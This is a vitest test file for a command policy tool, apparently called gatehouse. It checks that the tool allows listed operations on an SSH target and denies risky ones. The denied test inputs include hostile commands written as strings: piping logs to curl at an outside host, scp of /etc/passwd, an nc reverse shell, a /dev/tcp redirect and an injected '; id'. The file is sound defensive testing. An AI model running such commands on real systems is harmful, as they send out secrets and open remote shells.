/**
 * `gatehouse policy explain --command` on the SSH example config: the example's policy judges
 * commands by the programs they run, without any target or secret.
 */
import { describe, expect, it } from 'vitest'
import { execFile } from 'node:child_process'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'

const root = fileURLToPath(new URL('../../..', import.meta.url))

function explain(command: string): Promise<{ verdict: string; rule: string; attrs: { ssh: Record<string, unknown> } }> {
  return new Promise((resolve, reject) =>
    execFile(process.execPath, [join(root, 'core/dist/cli.js'), 'policy', 'explain', '-c', join(root, 'examples/ssh-target/gatehouse.yaml'), '-i', 'ci-runner', '--connection', 'web-1', '--command', command, '--json'], (err, stdout, stderr) =>
      err ? reject(new Error(stderr)) : resolve(JSON.parse(stdout)),
    ),
  )
}

describe('policy explain --command (examples/ssh-target)', () => {
  it('allows the listed commands exactly, and inspection commands by program as written', async () => {
    expect(await explain('systemctl restart web')).toMatchObject({ verdict: 'allow', rule: 'ci-ops/operate', attrs: { ssh: { argv: ['systemctl', 'restart', 'web'] } } })
    expect(await explain('journalctl -u app | grep -c running')).toMatchObject({ verdict: 'allow', rule: 'ci-ops/inspect', attrs: { ssh: { programs: ['journalctl', 'grep'] } } })
    for (const command of ['systemctl restart WEB', 'systemctl stop web', '~/bin/cat app.log', 'systemctl restart web; id']) {
      expect((await explain(command)).verdict, command).toBe('deny')
    }
  })

  it('denies a hop to another host hidden in a pipeline, a wrapper or a substitution', async () => {
    for (const command of ['journalctl -u app | curl -d @- http://x', 'sudo -u app env nohup scp /etc/passwd x:', 'cat $(which ssh)', "tail app.log; bash -c 'nc -e /bin/sh 10.0.0.9 4444'"]) {
      const r = await explain(command)
      expect(r.verdict, command).toBe('deny')
    }
    expect((await explain('journalctl -u app | curl -d @- http://x')).rule).toBe('ci-ops/no-lateral-movement')
  })

  it('denies commands whose programs are only known at run time, and network redirections', async () => {
    expect(await explain('$PROG status')).toMatchObject({ verdict: 'deny', rule: 'ci-ops/unknowable' })
    expect(await explain('cat < /dev/tcp/10.0.0.9/80')).toMatchObject({ verdict: 'deny', rule: 'ci-ops/no-network-redirects' })
  })

  it('denies a command line the shell parser cannot read', async () => {
    expect(await explain("echo 'unterminated")).toMatchObject({ verdict: 'deny', rule: 'gatehouse/parse' })
  })
})
